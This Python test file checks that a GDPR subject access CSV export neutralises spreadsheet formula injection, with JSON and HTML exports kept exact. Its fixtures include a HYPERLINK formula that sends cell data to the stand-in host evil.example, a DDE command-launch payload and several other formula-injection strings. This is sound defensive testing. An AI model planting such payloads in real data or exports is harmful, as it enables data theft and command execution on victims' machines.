"""A subject access export in CSV is opened in a spreadsheet: a text value tritonX or the shop
holds that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be read as a
formula there, so its cell is prefixed with `'`. Numbers stay numbers (a negative amount is no
formula), and the JSON and HTML exports keep every value exactly."""

from __future__ import annotations

import csv
import html
import io
import json
import zipfile
from typing import Any

import psycopg

from syncctl import export, gdpr
from tests.feed import stage, upserted

# what a customer record from tritonX may hold
HOSTILE_CUSTOMER = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "last_name": "+SUM(1,2)",
    "city": "-2+3",
    "street": "@SUM(A1:A2)",
    "infix": "\tvan",
    "house_number_addition": "\r=1+1",
}
# what the shop's own tables may hold
HOSTILE_NOTE = "=cmd|' /C calc'!A0"
HOSTILE_ORDER = "-O-1"


def _export(conn: psycopg.Connection[Any]) -> gdpr.SubjectData:
    stage(conn, [upserted("TX00000001", 1, **HOSTILE_CUSTOMER)])
    customer = gdpr.resolve_subject(conn, number="TX00000001")[0]
    conn.execute(
        "INSERT INTO shop.orders (customer_id, order_number, total_amount) VALUES (%s, %s, -12.50)",
        [customer, HOSTILE_ORDER],
    )
    conn.execute(
        "INSERT INTO shop.wishlist (customer_id, sku, note) VALUES (%s, 'w', %s)",
        [customer, HOSTILE_NOTE],
    )
    conn.commit()
    return gdpr.subject_data(conn, number="TX00000001")


def _tables(csv_zip: bytes) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(csv_zip)) as archive:
        return {
            name.removesuffix(".csv"): list(
                csv.DictReader(io.StringIO(archive.read(name).decode()))
            )
            for name in archive.namelist()
            if name.endswith(".csv")
        }


def test_csv_cells_a_spreadsheet_would_read_as_formulas_are_prefixed(
    conn: psycopg.Connection[Any],
) -> None:
    tables = _tables(export.to_csv_zip(_export(conn)))
    customer = tables["shop.customer"][0]
    for column, value in HOSTILE_CUSTOMER.items():
        assert customer[column] == "'" + value, column
    assert tables["shop.wishlist"][0]["note"] == "'" + HOSTILE_NOTE
    order = tables["shop.orders"][0]
    assert order["order_number"] == "'" + HOSTILE_ORDER
    # a negative amount is a number, not a formula
    assert float(order["total_amount"]) == -12.5
    # harmless text is as it was
    assert customer["customer_number"] == "TX00000001"


def test_json_and_html_exports_keep_the_values_exactly(conn: psycopg.Connection[Any]) -> None:
    data = _export(conn)
    document = json.loads(export.to_json(data))
    customer = document["tables"]["shop.customer"][0]
    for column, value in HOSTILE_CUSTOMER.items():
        assert customer[column] == value, column
    assert document["tables"]["shop.wishlist"][0]["note"] == HOSTILE_NOTE
    page = export.to_html(data).decode()
    for value in [HOSTILE_CUSTOMER["first_name"], HOSTILE_NOTE, HOSTILE_ORDER]:
        assert f"<td>{html.escape(value)}</td>" in page, value
